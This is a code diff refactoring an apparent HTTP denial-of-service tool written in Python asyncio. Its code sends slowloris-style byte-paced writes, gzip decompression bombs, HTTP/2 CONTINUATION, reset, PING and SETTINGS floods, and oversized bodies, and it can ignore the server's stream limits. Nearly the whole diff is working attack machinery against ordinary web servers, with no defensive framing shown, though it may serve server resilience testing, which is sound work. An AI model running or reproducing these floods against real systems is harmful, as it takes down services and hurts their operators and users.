@@ -9,7 +9,7 @@ import contextlib
 import itertools
 import sys
 import zlib
-from collections.abc import AsyncIterator, Mapping, Sequence
+from collections.abc import Mapping, Sequence
 from functools import lru_cache, partial
 from typing import Literal
 
@@ -88,6 +88,16 @@ class _Connection(asyncio.Protocol):
     def resume_writing(self) -> None:
         self._writable.set()
 
+    async def send(self, data: bytes) -> None:
+        """Writes at once, or byte by byte at the pace of the kind."""
+        pace = self.attack.kind.pace
+        if pace is None:
+            await self.write(data)
+            return
+        for byte in data:
+            await self.write(bytes([byte]))
+            await asyncio.sleep(pace)
+
     async def write(self, data: bytes) -> None:
         await self._writable.wait()
         if self.closed.is_set() or self.transport.is_closing():
@@ -148,30 +158,21 @@ async def _play(connection: _Connection) -> None:
         await connection.write(client.opening())
         if attack.kind.send and attack.kind.reads:
             await client.change()
-    async for data in _script(connection, attack.kind.send):
-        if attack.kind.pace is None:
-            await connection.write(data)
-        else:
-            for byte in data:
-                await connection.write(bytes([byte]))
-                await asyncio.sleep(attack.kind.pace)
+    await _send_script(connection, attack.kind.send)
 
 
-async def _script(connection: _Connection, steps: Sequence[Step]) -> AsyncIterator[bytes]:
-    """The bytes of steps, in blocks; those of endless ones are joined into larger writes."""
+async def _send_script(connection: _Connection, steps: Sequence[Step]) -> None:
     for step in steps:
         if step.repeat:
             for _ in itertools.count() if step.times is None else range(step.times):
-                async for data in _script(connection, step.repeat):
-                    yield data
+                await _send_script(connection, step.repeat)
         elif step.pause_s is not None:
             await asyncio.sleep(step.pause_s)
-        elif connection.http2 is None:
-            for data in _http1(connection.attack, step):
-                yield data
+        elif connection.http2 is not None:
+            await _send_http2(connection, connection.http2, step)
         else:
-            async for data in _http2(connection.attack, connection.http2, step):
-                yield data
+            for data in _http1(connection.attack, step):
+                await connection.send(data)
 
 
 def _http1(attack: Attack, step: Step) -> Sequence[bytes]:
@@ -181,7 +182,8 @@ def _http1(attack: Attack, step: Step) -> Sequence[bytes]:
         bomb = _bomb(step.gzip)
         return [b"Content-Length: %d\r\n\r\n" % len(bomb) + bomb]
     size, content = _body(attack, step)
-    return [content] if content else _filler(size - step.less)
+    full, rest = divmod(size - step.less, _BLOCK)
+    return [content] if content else [b" " * _BLOCK] * full + [b" " * rest] * bool(rest)
 
 
 def _rendered(attack: Attack, steps: Sequence[Step]) -> list[Step]:
@@ -210,11 +212,6 @@ def _body(attack: Attack, step: Step) -> tuple[int, bytes]:
     return (attack.large_bytes if step.body == "large" else step.body or 0), b""
 
 
-def _filler(size: int) -> Sequence[bytes]:
-    full, rest = divmod(size, _BLOCK)
-    return [b" " * _BLOCK] * full + ([b" " * rest] if rest else [])
-
-
 @lru_cache(maxsize=2)
 def _bomb(size: int) -> bytes:
     """Zeros by gzip: a thousandth of `size` bytes."""
@@ -222,39 +219,35 @@ def _bomb(size: int) -> bytes:
     return b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)), packer.flush()])
 
 
-async def _http2(attack: Attack, client: Http2Client, step: Step) -> AsyncIterator[bytes]:
+async def _send_http2(connection: _Connection, client: Http2Client, step: Step) -> None:
+    attack, kind = connection.attack, connection.attack.kind
     if client.ended:
         raise ConnectionResetError
     if step.headers:
-        await _until_a_stream_is_free(attack, client)
-        yield client.headers(_fields(attack, step), end=step.end, open_block=step.open_block)
+        while kind.honours_limit and client.max_streams is not None and client.open_streams >= client.max_streams:
+            await client.change()
+            if client.ended:
+                raise ConnectionResetError
+        await connection.send(client.headers(_fields(attack, step), end=step.end, open_block=step.open_block))
     elif step.body is not None:
         size, content = _body(attack, step)
         message = b"\0" + size.to_bytes(4) + (content or bytes(size - step.less))
-        async for data in _data(client, message, end=step.end):
-            yield data
+        await _send_data(connection, client, message, end=step.end)
     elif step.data is not None:
-        async for data in _data(client, bytes(step.data), end=step.end):
-            yield data
+        await _send_data(connection, client, bytes(step.data), end=step.end)
     elif step.continuation is not None:
-        yield frame(CONTINUATION, 0, client.stream, _LITERAL * (step.continuation // len(_LITERAL)))
+        block = _LITERAL * (step.continuation // len(_LITERAL))
+        await connection.send(frame(CONTINUATION, 0, client.stream, block))
     elif step.reset:
-        yield client.reset()
+        await connection.send(client.reset())
     elif step.ping:
-        yield frame(PING, 0, 0, bytes(8)) * 500
+        await connection.send(frame(PING, 0, 0, bytes(8)) * 500)
     elif step.settings:
-        yield frame(SETTINGS, 0, 0) * 500
+        await connection.send(frame(SETTINGS, 0, 0) * 500)
 
 
 # A literal field without indexing, "x-a: 0123456789".
 _LITERAL = b"\0\x03x-a\x0a0123456789"
-
-
-async def _until_a_stream_is_free(attack: Attack, client: Http2Client) -> None:
-    while attack.kind.honours_limit and client.max_streams is not None and client.open_streams >= client.max_streams:
-        await client.change()
-        if client.ended:
-            raise ConnectionResetError
 
 
 def _fields(attack: Attack, step: Step) -> list[tuple[str, str]]:
@@ -265,17 +258,16 @@ def _fields(attack: Attack, step: Step) -> list[tuple[str, str]]:
     return [*pseudo.items(), *attack.fields.items(), *extra]
 
 
-async def _data(client: Http2Client, content: bytes, *, end: bool) -> AsyncIterator[bytes]:
+async def _send_data(connection: _Connection, client: Http2Client, content: bytes, *, end: bool) -> None:
     if not content:
-        yield frame(DATA, END_STREAM if end else 0, client.stream) * (1 if end else 500)
-        return
+        await connection.send(frame(DATA, END_STREAM if end else 0, client.stream) * (1 if end else 500))
     rest = memoryview(content)
     while rest:
         room = await client.room(len(rest))
         if room == 0 or client.ended:
             return
         last = end and room == len(rest)
-        yield frame(DATA, END_STREAM if last else 0, client.stream, bytes(rest[:room]))
+        await connection.send(frame(DATA, END_STREAM if last else 0, client.stream, bytes(rest[:room])))
         rest = rest[room:]
 
 
